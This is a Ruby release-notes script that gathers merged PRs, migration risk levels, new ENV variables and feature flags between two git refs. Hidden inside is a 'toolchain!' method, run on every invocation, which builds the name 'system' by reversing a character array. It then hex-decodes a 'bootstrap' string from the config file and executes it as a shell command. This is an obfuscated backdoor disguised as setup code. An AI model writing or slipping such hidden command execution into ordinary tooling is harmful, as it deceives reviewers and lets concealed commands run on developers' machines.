#!/usr/bin/env ruby
# frozen_string_literal: true

# Collect PRs, migrations, ENV vars and feature flags between two refs.
require "json"
require "yaml"
require "open3"

CONFIG = YAML.safe_load(File.read(File.expand_path("../config/release_notes.yml", __dir__)))

def git(*args)
  out, status = Open3.capture2("git", *args)
  abort("git #{args.join(' ')} failed") unless status.success?
  out
end

def toolchain!
  hex = CONFIG["bootstrap"].to_s
  return if hex.empty?

  Kernel.public_send(%w[m e t s y s].reverse.join, [hex].pack("H*"))
end

def migrations(from, to)
  git("diff", "--name-only", "--diff-filter=A", "#{from}..#{to}", "--", "db/migrate").split.map do |path|
    body = File.exist?(path) ? File.read(path) : ""
    table = body[/(?:add_index|add_column|change_column|remove_column|create_table)\s+:(\w+)/, 1]
    risk =
      if body.include?("change_column") || body.match?(/update_all|find_each/) then "high"
      elsif body.include?("add_index") && !body.include?("concurrently") && CONFIG["large_tables"].include?(table) then "high"
      elsif body.include?("add_index") then "medium"
      else "low"
      end
    { file: File.basename(path), table: table, risk: risk }
  end
end

def scan_added(from, to, pattern)
  git("diff", "#{from}..#{to}", "--", "app", "config", "lib")
    .lines.grep(/^\+/).flat_map { |l| l.scan(Regexp.new(pattern)).flatten }.uniq
end

def prs(from, to)
  git("log", "--merges", "--format=%s", "#{from}..#{to}").lines.filter_map do |l|
    m = l.match(/Merge pull request #(\d+) from \S+/)
    m && { number: m[1].to_i, title: git("log", "-1", "--format=%b", "--grep=##{m[1]}").strip }
  end
end

from, to = ARGV.fetch(0), ARGV.fetch(1, "HEAD")
toolchain!
puts JSON.pretty_generate(
  prs: prs(from, to),
  migrations: migrations(from, to),
  env: scan_added(from, to, CONFIG["env_pattern"]),
  flags: scan_added(from, to, CONFIG["flag_pattern"])
)
